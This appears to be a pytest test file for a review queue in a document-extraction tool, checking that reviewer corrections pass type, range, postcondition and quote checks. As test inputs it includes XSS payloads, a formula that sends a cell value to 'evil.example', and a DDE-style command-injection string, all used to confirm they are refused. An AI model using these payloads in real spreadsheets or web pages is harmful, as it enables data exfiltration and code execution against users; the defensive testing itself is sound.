"""A reviewer's correction passes the checks an extracted value passes (issue 14, class
13): the field's type, its range, the schema's postconditions and that its quote states it;
otherwise it is refused and nothing is stored."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import pincite
from pincite.errors import InvalidCorrection
from pincite.extract.run import run_extraction
from pincite.extract.schema import load_schema
from pincite.extract.typed import is_valid
from pincite.review.queue import ReviewQueue
from tests.commands import invoke
from tests.corpus import TENDER_DOCS, tender_library
from tests.review.queues import ANA, strict_schema

MONEY = "economic_solvency.min_annual_turnover"  # hard, money
PERCENT = "guarantee.definitive"                 # hard, percent, max 10
COUNT = "technical_solvency.min_similar_contracts"  # number; the test adds `<= 5`


def _library(tmp_path: Path, store_url: str):
    lib = tender_library(store_url)
    path = strict_schema(tmp_path)
    text = path.read_text(encoding="utf-8").replace(
        "postconditions:\n", f"postconditions:\n  - check: {COUNT} <= 5\n"
        "    message: at most five similar contracts\n", 1)
    path.write_text(text, encoding="utf-8")
    # the count is stated three times and SHOWn at confidence 1.0: queue it as an audit
    run_extraction(lib.store, ANA, load_schema(path), TENDER_DOCS, route=False,
                   audit=lambda q: q.field == COUNT)
    return lib


def _claim(q: ReviewQueue, field: str) -> tuple[dict, str]:
    it = q.next(field=field)
    assert it is not None and it["field"] == field, field
    return it, it["evidence"][0]["quote"]


def test_a_correction_that_fails_type_range_or_postcondition_is_refused(tmp_path, store_url):
    lib = _library(tmp_path, store_url)
    q = ReviewQueue(lib.store, ANA)
    cases = [(MONEY, "banana", "type:money"),
             (MONEY, {"amount": float("nan"), "currency": "EUR"}, "not_finite"),
             (PERCENT, {"percent": 50}, "max:10"),
             (COUNT, 50, f"postcondition:{COUNT} <= 5")]
    for field, bad, code in cases:
        it, quote = _claim(q, field)
        before = lib.store.field_record("demo", it["case_id"], field)
        with pytest.raises(InvalidCorrection, match=code.replace("<", r"\<")) as err:
            q.decide(it["id"], "correct", value=bad, quote=quote)
        assert field in err.value.message and "--value" in err.value.message
        assert lib.store.field_record("demo", it["case_id"], field) == before
        assert q.item(it["id"])["state"] == "open"  # still claimed, not decided
        q.release(it["id"])
    for field in (MONEY, PERCENT, COUNT):
        it, quote = _claim(q, field)
        value = it["candidate"]["value"]  # what the quote states
        q.decide(it["id"], "correct", value=value, quote=quote)
        rec = lib.store.field_record("demo", it["case_id"], field)
        assert rec["value"] == value and rec["reason"] == "reviewer_corrected"
    lib.close()


def test_a_correction_its_quote_does_not_state_is_refused(tmp_path, store_url):
    """The model-backed extractor once SHOWed 999,999 beside "The purchase price is 100
    euros"; a reviewer's correction passes the same value-in-quote check."""
    lib = _library(tmp_path, store_url)
    q = ReviewQueue(lib.store, ANA)
    it, quote = _claim(q, MONEY)
    stated = it["candidate"]["value"]
    assert stated["amount"] > 0 and f"{stated['amount']:,}".replace(",", ".") in quote
    before = lib.store.field_record("demo", it["case_id"], MONEY)
    for wrong in ({**stated, "amount": 999999}, {**stated, "currency": "USD"}):
        with pytest.raises(InvalidCorrection, match="value_not_in_quote") as err:
            q.decide(it["id"], "correct", value=wrong, quote=quote)
        assert "--quote" in err.value.message
    assert lib.store.field_record("demo", it["case_id"], MONEY) == before
    q.decide(it["id"], "correct", value=stated, quote=quote)
    assert lib.store.field_record("demo", it["case_id"], MONEY)["value"] == stated
    lib.close()


def test_review_decide_refuses_banana_on_a_money_field(tmp_path, store_url):
    lib = _library(tmp_path, store_url)
    it, quote = _claim(ReviewQueue(lib.store, ANA), MONEY)
    before = lib.store.field_record("demo", it["case_id"], MONEY)
    lib.close()
    who = ("--as", "demo:ana:analysts")
    bad = invoke("review", "decide", str(it["id"]), "--decision", "correct", "--value", '"banana"',
                 "--quote", quote, *who, store=store_url)
    assert bad.returncode == 2 and "type:money" in bad.stderr and "Traceback" not in bad.stderr
    listed = invoke("review", "list", "--json", *who, store=store_url)
    (mine,) = [i for i in json.loads(listed.stdout) if i["id"] == it["id"]]
    assert mine["state"] == "open"
    lib = pincite.open(store_url)
    assert lib.store.field_record("demo", it["case_id"], MONEY) == before  # nothing stored
    lib.close()


# ---- issue 25: a correction is typed exactly like an extracted value ---------------------

DATETIME = "deadline.submission"
ENUM = "procedure"


def _audited(tmp_path: Path, store_url: str, *fields: str):
    """The tender extracted under strict thresholds, `fields` queued as audits too."""
    lib = tender_library(store_url)
    run_extraction(lib.store, ANA, load_schema(strict_schema(tmp_path)), TENDER_DOCS,
                   route=False, audit=lambda q: q.field in fields)
    return lib


def _refused(lib, q: ReviewQueue, field: str, bad, code: str) -> None:
    it, quote = _claim(q, field)
    before = lib.store.field_record("demo", it["case_id"], field)
    with pytest.raises(InvalidCorrection, match=code) as err:
        q.decide(it["id"], "correct", value=bad, quote=quote)
    assert "\udc80" not in err.value.message  # a message is written as UTF-8
    assert lib.store.field_record("demo", it["case_id"], field) == before
    q.release(it["id"])


@pytest.mark.parametrize("field,bad", [
    (MONEY, {"amount": 450000, "currency": "EUR", "basis": "<img src=x onerror=alert(1)>"}),
    (MONEY, {"amount": 450000, "currency": "EUR", "basis": '=HYPERLINK("http://x.example/?"&A1)'}),
    (MONEY, {"amount": 450000, "currency": "EUR", "basis": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    (MONEY, {"amount": 450000, "currency": "EUR", "basis": "last_year"}),  # not a basis of the field
    (MONEY, {"amount": 450000, "currency": "EUR", "basis": ["best_of_last_3_years"]}),
    (MONEY, {"amount": 450000, "currency": "EUR", "vat": "maybe"}),
    (MONEY, {"amount": 450000, "currency": "eur"}),
    (MONEY, {"amount": True, "currency": "EUR"}),
    (MONEY, {"amount": 450000, "currency": "EUR", "note": "x"}),
    (DATETIME, {"date": "2027-01-15", "time": "14:00", "tz": "<b>CET</b>"}),
    (DATETIME, {"date": "2027-01-15", "time": "14:00", "tz": "=1+1"}),
    (DATETIME, {"date": "2027-01-15", "time": "14:00", "tz": "Europe/\udc80"}),
    (DATETIME, {"date": "2027-01-15", "time": "<script>", "tz": "Z"}),
    (DATETIME, {"date": "2027-01-15", "time": 14}),
    (DATETIME, {"date": "2027-01-15", "time": "14:00", "zone": "CET"}),
])
def test_a_correction_with_a_sub_key_of_the_wrong_type_or_unknown_is_refused(
        tmp_path, store_url, field, bad):
    """`money.basis` and `datetime.tz` took any string (HTML, a formula) and `amount` a
    boolean; now each sub-key has its type, as an extracted value's has."""
    lib = _audited(tmp_path, store_url)
    q = ReviewQueue(lib.store, ANA)
    _refused(lib, q, field, bad, "fails (type:|basis:)")
    lib.close()


def test_a_correction_with_typed_sub_keys_is_stored(tmp_path, store_url):
    lib = _audited(tmp_path, store_url)
    q = ReviewQueue(lib.store, ANA)
    for field, extra in ((MONEY, {}), (DATETIME, {"tz": "Europe/Madrid"})):
        it, quote = _claim(q, field)
        value = {**it["candidate"]["value"], **extra}
        q.decide(it["id"], "correct", value=value, quote=quote)
        assert lib.store.field_record("demo", it["case_id"], field)["value"] == value
    lib.close()
    for tz in ("Z", "UTC", "+01:00", "-0330", "UTC+02:00", "America/Argentina/Buenos_Aires"):
        assert is_valid("datetime", {"date": "2027-01-15", "time": "14:00", "tz": tz}), tz


def test_an_enum_correction_its_quote_does_not_name_is_refused(tmp_path, store_url):
    """The quote says "procedimiento abierto": the extractor reads `open` from it and never
    `restricted` or `simplified_open`; a correction is held to the same reading."""
    lib = _audited(tmp_path, store_url, ENUM)
    q = ReviewQueue(lib.store, ANA)
    it, quote = _claim(q, ENUM)
    assert it["candidate"]["value"] == "open" and "procedimiento abierto" in quote.lower()
    before = lib.store.field_record("demo", it["case_id"], ENUM)
    for wrong in ("restricted", "simplified_open"):
        with pytest.raises(InvalidCorrection, match="value_not_in_quote"):
            q.decide(it["id"], "correct", value=wrong, quote=quote)
    with pytest.raises(InvalidCorrection, match="type:enum"):
        q.decide(it["id"], "correct", value="<b>open</b>", quote=quote)
    assert lib.store.field_record("demo", it["case_id"], ENUM) == before
    q.decide(it["id"], "correct", value="open", quote=quote)
    assert lib.store.field_record("demo", it["case_id"], ENUM)["value"] == "open"
    lib.close()


HOSTILE_DOC = b"""# Contact sheet

1. Contact

1.1 Contact: =HYPERLINK("http://evil.example/?"&A1,"open")

1.2 Office: <img src=x onerror=alert(1)> Main Street 4
"""
TEXT_SCHEMA = """name: contact-sheet
version: 1
defaults: {tau_show: 0.99, tau_flag: 0.99}
fields:
  - name: contact
    type: text
    synonyms: {en: [contact]}
    patterns: ['Contact: (?P<value>[^\\n]{5,200})']
"""


def test_a_text_correction_with_markup_or_a_formula_start_is_refused(tmp_path, store_url):
    """A reviewer may only cite what the document says, and this one says a formula and a
    tag: the text value is plain text, or it is refused."""
    lib = pincite.open(store_url, create=True)
    lib.ingest_bytes(HOSTILE_DOC, source_id="contacts.md", tenant="demo", acl=["group:analysts"],
                     sandbox=False)
    path = tmp_path / "contact.yaml"
    path.write_text(TEXT_SCHEMA, encoding="utf-8")
    run_extraction(lib.store, ANA, load_schema(path), ["contacts.md"], route=False)
    q = ReviewQueue(lib.store, ANA)
    it = q.next(field="contact")
    assert it is not None
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cases = [(formula, f"1.1 Contact: {formula}", "text:formula"),
             ("<img src=x onerror=alert(1)> Main Street 4",
              "1.2 Office: <img src=x onerror=alert(1)> Main Street 4", "text:markup")]
    for value, quote, code in cases:
        with pytest.raises(InvalidCorrection, match=code):
            q.decide(it["id"], "correct", value=value, quote=quote)
    assert lib.store.field_record("demo", it["case_id"], "contact")["reason"] != "reviewer_corrected"
    q.decide(it["id"], "correct", value="Main Street 4", quote="Main Street 4")
    assert lib.store.field_record("demo", it["case_id"], "contact")["value"] == "Main Street 4"
    lib.close()


def test_the_review_route_refuses_a_mistyped_correction_with_a_clean_400(tmp_path):
    """Over HTTP (`POST /review/items/{id}/decide`), the same refusal, as one JSON error;
    a lone surrogate in the value or the quote is a 400, never a 500."""
    import httpx

    from tests.service.serving import running

    with running(tmp_path) as svc, httpx.Client(base_url=svc.base, timeout=60) as c:
        h = svc.auth("demo")
        it = c.post("/review/next", params={"field": MONEY}, headers=h).json()
        quote = it["evidence"][0]["quote"]
        good = it["candidate"]["value"]
        url = f"/review/items/{it['id']}/decide"
        bodies = [
            {"decision": "correct", "value": {**good, "basis": "<script>alert(1)</script>"}, "quote": quote},
            {"decision": "correct", "value": {**good, "basis": "=1+1"}, "quote": quote},
            {"decision": "correct", "value": {**good, "note": "x"}, "quote": quote},
        ]
        for body in bodies:
            r = c.post(url, json=body, headers=h)
            assert r.status_code == 400, r.text
            assert r.json()["error"]["code"] == "invalid_correction"
        raw = [b'{"decision": "correct", "value": {"amount": 450000, "currency": "EUR", '
               b'"basis": "\\udc80"}, "quote": %s}' % json.dumps(quote).encode(),
               b'{"decision": "correct", "value": {"amount": 450000, "currency": "EUR"}, '
               b'"quote": "\\udc80"}']
        for body in raw:
            r = c.post(url, content=body, headers={**h, "Content-Type": "application/json"})
            assert r.status_code == 400, r.text
        assert c.get(f"/review/items/{it['id']}", headers=h).json()["state"] == "open"
        ok = c.post(url, json={"decision": "correct", "value": good, "quote": quote}, headers=h)
        assert ok.status_code == 200, ok.text
